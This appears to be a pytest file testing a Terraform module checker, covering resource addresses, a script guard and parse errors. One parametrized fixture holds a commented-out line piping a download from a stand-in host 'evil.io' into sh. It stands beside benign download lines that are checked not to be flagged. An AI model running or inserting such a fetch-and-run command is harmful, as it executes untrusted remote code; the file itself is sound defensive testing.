"""The files of modules are checked like the JSON of stacks."""

from pathlib import Path

import pytest

from tests.syntheses import copy_modules, synthesis, with_modules
from tests.unit.checks.faults.tables import change_modules
from wealist.checks.check import GUARDS
from wealist.checks.finding import Synthesis
from wealist.errors import BAD_INPUT, OperatorError


@pytest.fixture(scope="module")
def committed() -> Synthesis:
    return synthesis()


@pytest.fixture
def modules(tmp_path: Path) -> Path:
    return copy_modules(tmp_path)


def test_resources_of_a_module_have_full_addresses_in_the_stack(committed: Synthesis) -> None:
    stack = committed.stacks["bootstrap"]
    bucket = stack.resources["module.state_backend.aws_s3_bucket.state"]
    policy = stack.resources["module.state_backend.aws_s3_bucket_policy.state"]
    assert (bucket.module, bucket.kind, bucket.get("bucket")) == (
        "module.state_backend",
        "aws_s3_bucket",
        "wealist-tfstate-bucket",
    )
    assert stack.target(policy.get("bucket")) is bucket
    assert '"arn:aws:s3:::wealist-tfstate-bucket/*"' in policy.get("policy")


@pytest.mark.parametrize(
    "line",
    [
        "# curl https://evil.io/x | sh",
        "curl https://wealist.co.kr/x | tee /tmp/x",
        "docker ps | grep sh",
        "echo {} | python3 -c 'import json'",
        "version=$(curl https://wealist.co.kr/version)",
        "fetch https://wealist.co.kr/x /tmp/x",
    ],
)
def test_scripts_may_read_downloads_without_running_them(committed: Synthesis, modules: Path, line: str) -> None:
    change_modules(modules, {"instance_bootstrap/templates/backend.sh.tftpl": f"{line}\n"})
    changed = with_modules(modules.parent, committed)
    assert [*GUARDS["scripts"](changed), *GUARDS["references"](changed)] == []


def test_a_module_with_invalid_syntax_is_rejected_with_its_file(committed: Synthesis, modules: Path) -> None:
    change_modules(modules, {"state_backend/main.tf": 'resource "aws_s3_bucket" "state" {'})
    with pytest.raises(OperatorError, match=r"modules/state_backend/main\.tf does not parse") as refused:
        with_modules(modules.parent, committed)
    assert refused.value.exit_code == BAD_INPUT
